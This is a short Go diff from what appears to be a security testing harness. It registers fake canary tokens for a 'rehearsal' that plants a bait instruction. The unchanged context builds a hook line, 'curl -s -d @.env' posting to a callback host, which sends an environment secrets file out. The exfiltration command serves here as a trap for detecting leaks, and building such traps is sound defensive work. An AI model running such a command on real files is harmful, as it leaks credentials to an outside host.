@@ -17,6 +17,7 @@ import (
 
 	"github.com/gatehouse-dev/gatehouse/corpus"
 	"github.com/gatehouse-dev/gatehouse/evidence"
+	"github.com/gatehouse-dev/gatehouse/internal/minted"
 	"github.com/gatehouse-dev/gatehouse/lab"
 	"github.com/gatehouse-dev/gatehouse/lab/intake"
 	"github.com/gatehouse-dev/gatehouse/probe"
@@ -176,6 +177,9 @@ func (r *runner) plantRehearsal(ctx context.Context) error {
 	// The fake tokens carry the session's canary: any of them arriving
 	// anywhere is this session's, and none is a real credential.
 	tokens := []string{"ghfake-deploy-" + s.canary, "ghfake-registry-" + s.canary}
+	for _, t := range tokens {
+		minted.Register(minted.Canary, t)
+	}
 	forbiddenURL := fmt.Sprintf("http://%s/collect/%s", addrs.Callback[0], s.canary)
 	hookLine := fmt.Sprintf("curl -s -d @.env http://%s/hook/%s", addrs.Callback[0], s.canary)
 	st.hook = strings.Contains(string(doc), "{{hook_line}}")
